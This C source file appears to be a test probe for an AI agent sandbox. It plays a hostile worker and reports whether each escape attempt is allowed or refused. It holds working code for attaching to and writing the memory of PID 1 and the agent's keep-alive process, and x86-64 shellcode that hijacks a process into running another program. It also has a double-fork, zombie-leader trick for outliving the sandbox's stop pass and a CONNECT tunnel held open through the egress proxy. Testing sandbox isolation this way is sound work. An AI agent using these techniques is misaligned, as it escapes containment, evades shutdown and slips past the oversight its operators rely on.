/*
 * A hostile worker's tool (issue 41, finding 1): the ways into the sandbox's PID 1
 * and the carrier, and the ways to outlive a run. Built static by the tests
 * (support::pid1_probe) and run in the container by the fake codex's `@run`.
 * One line of result per attempt, "pid1-probe <what> <target>: allowed|refused (...)".
 *
 *   ptrace TARGET       PTRACE_ATTACH (then detach)
 *   vm TARGET           process_vm_readv and process_vm_writev of one byte
 *   mem TARGET          open /proc/TARGET/mem for writing
 *   hijack TARGET PATH  TARGET made to execve PATH: code written where it sits in a
 *                       system call, through /proc/TARGET/mem (x86-64), then woken
 *                       with SIGCHLD; the takeover the round used
 *   linger PATH         a process that escapes the stop pass if it can: double fork,
 *                       setsid, a thread appending to PATH every 0.2 s while its
 *                       thread group's leader has exited (a zombie leader)
 *   alive PATH          appends "alive" to PATH every 0.2 s for ever, in this one
 *                       process (a program PID 1 is made to run: no child to stop)
 *   tunnel PORT HOST:PORT FIFO
 *                       a CONNECT tunnel through the egress proxy on 127.0.0.1:PORT
 *                       to HOST:PORT, opened now and held: what is written to FIFO
 *                       goes through it, for as long as the tunnel lives
 * TARGET is a pid, or `carrier`: the pid the envelope spares (its argument).
 * Without arguments (a program PID 1 was made to run gets none) they come from
 * /tmp/pid1-probe-args, one a line.
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <arpa/inet.h>
#include <pthread.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

static void say(const char *what, const char *target, int ok, int err)
{
    if (ok)
        printf("pid1-probe %s %s: allowed\n", what, target);
    else
        printf("pid1-probe %s %s: refused (%s)\n", what, target, strerror(err));
    fflush(stdout);
}

/* The keep-alive's pid, as the envelope of this exec names it in its arguments. */
static int carrier(void)
{
    char path[64], buf[65536];
    for (int pid = 2; pid < 1 << 22; pid++) {
        snprintf(path, sizeof path, "/proc/%d/cmdline", pid);
        int fd = open(path, O_RDONLY);
        if (fd < 0)
            continue;
        ssize_t n = read(fd, buf, sizeof buf - 1);
        close(fd);
        if (n <= 0)
            continue;
        buf[n] = 0;
        /* sh -c SCRIPT agent-runner-envelope MODE KEEP ... */
        char *p = buf, *end = buf + n;
        while (p < end && strcmp(p, "agent-runner-envelope") != 0)
            p += strlen(p) + 1;
        if (p >= end)
            continue;
        p += strlen(p) + 1;
        if (p >= end)
            continue;
        p += strlen(p) + 1;
        if (p < end)
            return atoi(p);
    }
    return -1;
}

static int target(const char *name)
{
    return strcmp(name, "carrier") == 0 ? carrier() : atoi(name);
}

/* Where TARGET sits in a system call: the address after its `syscall` (and, in
 * `sp`, its stack pointer). */
static unsigned long sitting_at(int pid, unsigned long *sp)
{
    char path[64], buf[512];
    snprintf(path, sizeof path, "/proc/%d/syscall", pid);
    for (int tries = 0; tries < 200; tries++) {
        int fd = open(path, O_RDONLY);
        if (fd < 0)
            return 0;
        ssize_t n = read(fd, buf, sizeof buf - 1);
        close(fd);
        if (n <= 0)
            return 0;
        buf[n] = 0;
        if (strncmp(buf, "running", 7) != 0) {
            char *last = strrchr(buf, ' ');
            if (!last)
                return 0;
            *last = 0;
            char *before = strrchr(buf, ' ');
            if (sp)
                *sp = before ? strtoul(before + 1, NULL, 0) : 0;
            return strtoul(last + 1, NULL, 0);
        }
        usleep(10000);
    }
    return 0;
}

static int hijack(int pid, const char *path)
{
#if defined(__x86_64__)
    /* lea rdi,[rip+24]; push 0; push rdi; mov rsi,rsp; xor edx,edx; mov eax,59;
     * syscall; then pause in a loop should execve fail. The path follows. */
    unsigned char code[256] = {0x48, 0x8d, 0x3d, 24, 0, 0, 0, 0x6a, 0x00, 0x57, 0x48, 0x89,
                               0xe6, 0x31, 0xd2, 0xb8, 59, 0, 0, 0, 0x0f, 0x05, 0xb8, 34,
                               0, 0, 0, 0x0f, 0x05, 0xeb, 0xf7};
    size_t at = 31, len = strlen(path);
    if (len + at + 1 > sizeof code)
        return EINVAL;
    memcpy(code + at, path, len + 1);
    char mem[64];
    snprintf(mem, sizeof mem, "/proc/%d/mem", pid);
    int fd = open(mem, O_RDWR);
    if (fd < 0)
        return errno;
    unsigned long pc = sitting_at(pid, NULL);
    if (pc == 0) {
        close(fd);
        return ESRCH;
    }
    ssize_t n = pwrite(fd, code, at + len + 1, (off_t)pc);
    int err = errno;
    close(fd);
    if (n != (ssize_t)(at + len + 1))
        return n < 0 ? err : EIO;
    kill(pid, SIGCHLD);
    return 0;
#else
    (void)pid;
    (void)path;
    return ENOSYS;
#endif
}

static const char *linger_path;

static void *linger_loop(void *unused)
{
    (void)unused;
    for (;;) {
        int fd = open(linger_path, O_WRONLY | O_CREAT | O_APPEND, 0644);
        if (fd >= 0) {
            char line[64];
            int n = snprintf(line, sizeof line, "alive %ld\n", (long)time(NULL));
            if (write(fd, line, (size_t)n) < 0)
                n = 0;
            close(fd);
        }
        usleep(200000);
    }
    return NULL;
}

static int linger(const char *path)
{
    linger_path = path;
    pid_t child = fork();
    if (child < 0)
        return errno;
    if (child > 0) {
        waitpid(child, NULL, 0);
        return 0;
    }
    setsid();
    if (fork() != 0)
        _exit(0);
    for (int fd = 0; fd < 3; fd++) {
        close(fd);
        open("/dev/null", O_RDWR);
    }
    pthread_t thread;
    if (pthread_create(&thread, NULL, linger_loop, NULL) != 0)
        _exit(1);
    /* The leader alone ends: the process lives on in its thread. */
    syscall(SYS_exit, 0);
    return 0;
}

static int tunnel(int port, const char *to, const char *fifo)
{
    int fd = socket(AF_INET, SOCK_STREAM, 0);
    struct sockaddr_in addr;
    memset(&addr, 0, sizeof addr);
    addr.sin_family = AF_INET;
    addr.sin_port = htons((unsigned short)port);
    addr.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
    if (fd < 0 || connect(fd, (struct sockaddr *)&addr, sizeof addr) != 0)
        return errno;
    char head[512], answer[512];
    int n = snprintf(head, sizeof head, "CONNECT %s HTTP/1.1\r\nHost: %s\r\n\r\n", to, to);
    if (write(fd, head, (size_t)n) != n)
        return errno;
    ssize_t got = read(fd, answer, sizeof answer - 1);
    if (got <= 0)
        return ECONNRESET;
    answer[got] = 0;
    if (strstr(answer, " 200 ") == NULL)
        return EACCES;
    say("tunnel", to, 1, 0);
    /* Held from here; what comes on the FIFO goes through. */
    int in = open(fifo, O_RDWR);
    if (in < 0)
        return errno;
    char buf[4096];
    for (;;) {
        ssize_t r = read(in, buf, sizeof buf);
        if (r <= 0 || write(fd, buf, (size_t)r) != r)
            return 0;
    }
}

int main(int argc, char **argv)
{
    static char *from_file[8];
    if (argc == 1) {
        static char args[1024];
        int fd = open("/tmp/pid1-probe-args", O_RDONLY);
        ssize_t n = fd < 0 ? -1 : read(fd, args, sizeof args - 1);
        if (n > 0) {
            args[n] = 0;
            from_file[0] = argv[0];
            argc = 1;
            for (char *line = strtok(args, "\n"); line && argc < 7; line = strtok(NULL, "\n"))
                from_file[argc++] = line;
            argv = from_file;
        }
    }
    if (argc == 5 && strcmp(argv[1], "tunnel") == 0) {
        int err = tunnel(atoi(argv[2]), argv[3], argv[4]);
        say("tunnel", argv[3], err == 0, err);
        return 0;
    }
    if (argc < 3) {
        fprintf(stderr, "usage: pid1-probe ptrace|vm|mem|hijack|linger ...\n");
        return 2;
    }
    const char *what = argv[1], *name = argv[2];
    if (strcmp(what, "alive") == 0) {
        linger_path = name;
        linger_loop(NULL);
    }
    if (strcmp(what, "linger") == 0) {
        int err = linger(name);
        say("linger", name, err == 0, err);
        return 0;
    }
    int pid = target(name);
    if (pid <= 0) {
        printf("pid1-probe %s %s: no such process\n", what, name);
        return 1;
    }
    if (strcmp(what, "ptrace") == 0) {
        long r = ptrace(PTRACE_ATTACH, pid, NULL, NULL);
        int err = errno;
        if (r == 0) {
            waitpid(pid, NULL, __WALL);
            ptrace(PTRACE_DETACH, pid, NULL, NULL);
        }
        say("ptrace", name, r == 0, err);
    } else if (strcmp(what, "vm") == 0) {
        /* A byte of its stack, read and written back as it was. */
        unsigned long sp = 0;
        sitting_at(pid, &sp);
        char byte = 0;
        struct iovec local = {&byte, 1}, remote = {(void *)(sp ? sp : 0x400000), 1};
        ssize_t r = process_vm_readv(pid, &local, 1, &remote, 1, 0);
        say("vm-read", name, r == 1, errno);
        r = process_vm_writev(pid, &local, 1, &remote, 1, 0);
        say("vm-write", name, r == 1, errno);
    } else if (strcmp(what, "mem") == 0) {
        char mem[64];
        snprintf(mem, sizeof mem, "/proc/%d/mem", pid);
        int fd = open(mem, O_RDWR);
        say("mem", name, fd >= 0, errno);
        if (fd >= 0)
            close(fd);
    } else if (strcmp(what, "hijack") == 0 && argc == 4) {
        int err = hijack(pid, argv[3]);
        say("hijack", name, err == 0, err);
    } else {
        fprintf(stderr, "pid1-probe: unknown %s\n", what);
        return 2;
    }
    return 0;
}
